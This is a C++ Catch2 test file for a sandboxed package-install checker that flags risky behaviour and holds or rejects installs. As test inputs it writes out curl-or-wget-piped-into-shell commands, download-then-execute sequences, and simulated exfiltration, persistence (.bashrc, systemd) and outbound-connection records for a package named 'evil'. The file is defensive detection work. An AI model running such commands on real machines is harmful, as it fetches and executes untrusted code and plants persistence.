#include <sys/stat.h>

#include <algorithm>
#include <catch2/catch.hpp>

#include "runner/exit_codes.h"
#include "runner/finding.h"
#include "runner/judge/behaviour_findings.h"
#include "runner/staging/verdict.h"

using namespace safeinstall::runner;

namespace {

std::size_t count_kind(const std::vector<Finding>& findings, FindingKind kind) {
  return static_cast<std::size_t>(std::count_if(findings.begin(), findings.end(),
                                                [&](const Finding& f) { return f.kind == kind; }));
}

const Finding& first_of(const std::vector<Finding>& findings, FindingKind kind) {
  auto it = std::find_if(findings.begin(), findings.end(),
                         [&](const Finding& f) { return f.kind == kind; });
  REQUIRE(it != findings.end());
  return *it;
}

ProcessRecord process(pid_t pid, std::vector<std::string> argv, std::string cwd = "/p",
                      std::string package = {}) {
  ProcessRecord p;
  p.pid = pid;
  p.argv = std::move(argv);
  p.exe = p.argv.empty() ? std::string() : p.argv[0];
  p.cwd = std::move(cwd);
  p.package = std::move(package);
  return p;
}

RunRecord record_with_outcome() {
  RunRecord record;
  record.outcome.emplace();
  record.outcome->recorded = true;
  record.plan.emplace();
  record.plan->home = "/home/sandbox";
  return record;
}

}  // namespace

TEST_CASE("findings: severities are ordered and named, and unknown names are refused") {
  CHECK(Severity::critical > Severity::high);
  CHECK(Severity::medium > Severity::low);
  CHECK(to_string(Severity::high) == "high");
  CHECK(severity_from("medium") == Severity::medium);
  CHECK_FALSE(severity_from("severe").has_value());
  CHECK(to_string(FindingKind::credential_read) == "credential-read");
  CHECK(to_string(FindingKind::typosquat) == "typosquat");
}

TEST_CASE("findings: the risk score sums severities up to 100 and counts the suspicious") {
  CHECK(risk_of({}).score == 0);
  CHECK_FALSE(risk_of({}).highest.has_value());
  std::vector<Finding> some = {{FindingKind::survivor, Severity::medium, "a", {}, {}, 0},
                               {FindingKind::unlisted_script, Severity::low, "b", {}, {}, 0},
                               {FindingKind::persistence, Severity::high, "c", {}, {}, 0}};
  auto risk = risk_of(some);
  CHECK(risk.score == 37);
  CHECK(risk.highest == Severity::high);
  CHECK(risk.suspicious == 2);
  std::vector<Finding> many(10, {FindingKind::exfiltration, Severity::critical, "x", {}, {}, 0});
  CHECK(risk_of(many).score == 100);
}

TEST_CASE("findings: a download piped into a shell is told from ordinary scripts") {
  auto sh = [](std::string script) { return std::vector<std::string>{"/bin/sh", "-c", script}; };
  CHECK(pipes_download_into_shell(sh("curl -fsSL https://x.example/i.sh | sh")));
  CHECK(pipes_download_into_shell(sh("wget -qO- http://1.2.3.4/a|bash -s -- x")));
  CHECK(pipes_download_into_shell(sh("cd /tmp && curl -s u | sudo /bin/bash")));
  CHECK(pipes_download_into_shell(sh("curl -s u | tee log | sh")));
  CHECK(pipes_download_into_shell({"bash", "-lc", "echo; curl x|zsh"}));
  CHECK_FALSE(pipes_download_into_shell(sh("curl -o out.tgz https://x.example/a.tgz")));
  CHECK_FALSE(pipes_download_into_shell(sh("curl u || sh fallback.sh")));
  CHECK_FALSE(pipes_download_into_shell(sh("curl u; sh build.sh")));
  CHECK_FALSE(pipes_download_into_shell(sh("node-gyp rebuild | tee build.log")));
  CHECK_FALSE(pipes_download_into_shell({"sh", "build.sh", "curl | sh"}));
}

TEST_CASE("findings: what a run did becomes behaviour findings with severities") {
  RunRecord record = record_with_outcome();
  auto& outcome = *record.outcome;
  DirectAttempt direct;
  direct.address = "203.0.113.66";
  direct.port = 443;
  direct.call = "connect";
  direct.pid = 12;
  direct.argv = {"node", "steal.js"};
  direct.package = "evil@1.0.0";
  outcome.direct_attempts.push_back(direct);
  outcome.network.refused.push_back(
      {"webhook.site", 443, safeinstall::sandbox::RefusalReason::NotAllowed, 2});
  outcome.network.dns.push_back({"exfil.example", "A", false, 1});
  outcome.network.dns.push_back({"registry.npmjs.org", "A", true, 3});
  outcome.written.push_back({"home", ".bashrc", S_IFREG | 0644, 10});
  outcome.written.push_back({"home", ".config/systemd/user/x.service", S_IFREG | 0644, 10});
  outcome.written.push_back({"home", ".cache/npm/x", S_IFREG | 0644, 10});
  record.staging.emplace();
  Change& workflow = record.staging->changes.add(".github/workflows/ci.yml");
  workflow.change = ChangeKind::added;
  workflow.category = Category::protected_;

  auto findings = behaviour_findings(record);
  const auto& connect = first_of(findings, FindingKind::direct_connect);
  CHECK(connect.severity == Severity::high);
  CHECK(connect.package == "evil@1.0.0");
  CHECK(connect.pid == 12);
  CHECK_THAT(connect.detail, Catch::Contains("203.0.113.66:443"));
  CHECK(first_of(findings, FindingKind::refused_egress).severity == Severity::medium);
  CHECK(count_kind(findings, FindingKind::unlisted_dns) == 1);
  CHECK_THAT(first_of(findings, FindingKind::unlisted_dns).detail,
             Catch::Contains("exfil.example"));
  CHECK(count_kind(findings, FindingKind::persistence) == 2);
  CHECK(first_of(findings, FindingKind::persistence).severity == Severity::high);
  CHECK(first_of(findings, FindingKind::protected_write).path == ".github/workflows/ci.yml");
}

TEST_CASE("findings: a fetched file that is then executed is a download-exec finding") {
  RunRecord record = record_with_outcome();
  auto& processes = record.outcome->processes;
  processes.push_back(process(5, {"curl", "-sLo", "x.bin", "https://h.example/x"}, "/tmp"));
  processes.push_back(process(6, {"/tmp/x.bin"}, "/p", "evil@2.0.0"));
  processes.push_back(process(7, {"wget", "http://h.example/dl/payload"}, "/home/u"));
  processes.push_back(process(8, {"./payload", "--go"}, "/home/u"));
  processes.push_back(process(9, {"curl", "-o", "data.json", "https://h.example/d"}, "/p"));
  processes.push_back(process(10, {"node", "data.json"}, "/p"));
  auto findings = behaviour_findings(record);
  REQUIRE(count_kind(findings, FindingKind::download_exec) == 2);
  CHECK(findings[0].path == "/tmp/x.bin");
  CHECK(findings[0].package == "evil@2.0.0");
  CHECK(findings[1].path == "/home/u/payload");
}

TEST_CASE("findings: recorded findings mirror existing violations instead of repeating them") {
  RunRecord record = record_with_outcome();
  record.violations.push_back({ViolationKind::survivor, "sleep outlived", 31, {}, {}, {}, {}});
  std::vector<Finding> findings = {
      {FindingKind::survivor, Severity::medium, "sleep outlived the command", {}, {}, 31},
      {FindingKind::direct_connect, Severity::high, "connect to 1.2.3.4", "x@1", {}, 7}};
  record_findings(record, findings);
  REQUIRE(record.violations.size() == 2);
  CHECK(record.violations[0].finding == FindingKind::survivor);
  CHECK(severity_of(record.violations[0]) == Severity::medium);
  CHECK(record.violations[1].kind == ViolationKind::egress);
  CHECK(record.violations[1].package == "x@1");
  CHECK(severity_of(record.violations[1]) == Severity::high);
  CHECK(record.findings.size() == 2);
  CHECK(severity_of(Violation{ViolationKind::limit, "t", 0, {}, {}, {}, {}}) == Severity::low);
}

TEST_CASE("findings: suspicious findings hold a run whose writes were all expected") {
  ChangeList changes;
  VerdictInputs inputs;
  inputs.findings = {
      {FindingKind::persistence, Severity::high, "~/.bashrc was written", {}, ".bashrc", 0},
      {FindingKind::unlisted_script, Severity::low, "esbuild postinstall", {}, {}, 0}};
  auto verdict = decide_verdict(changes, inputs);
  CHECK(verdict.kind == VerdictKind::held);
  CHECK(verdict.suspicious);
  CHECK(verdict.needs_confirmation);
  REQUIRE_FALSE(verdict.reasons.empty());
  CHECK_THAT(verdict.reasons[0], Catch::Contains("suspicious (persistence, high)"));

  inputs.findings = {{FindingKind::unlisted_script, Severity::low, "x", {}, {}, 0}};
  auto low_only = decide_verdict(changes, inputs);
  CHECK(low_only.kind == VerdictKind::promoted);
  CHECK_FALSE(low_only.suspicious);
}

TEST_CASE("findings: a known-malicious package rejects the run") {
  ChangeList changes;
  VerdictInputs inputs;
  inputs.findings = {{FindingKind::malicious_package,
                      Severity::critical,
                      "evil@1.0.0 is MAL-2026-1 (malicious code)",
                      "evil@1.0.0",
                      {},
                      0}};
  auto verdict = decide_verdict(changes, inputs);
  CHECK(verdict.kind == VerdictKind::rejected);
  CHECK_THAT(verdict.reasons[0], Catch::Contains("MAL-2026-1"));
  CHECK(exit_code::kSuspicious != exit_code::kHeld);
}
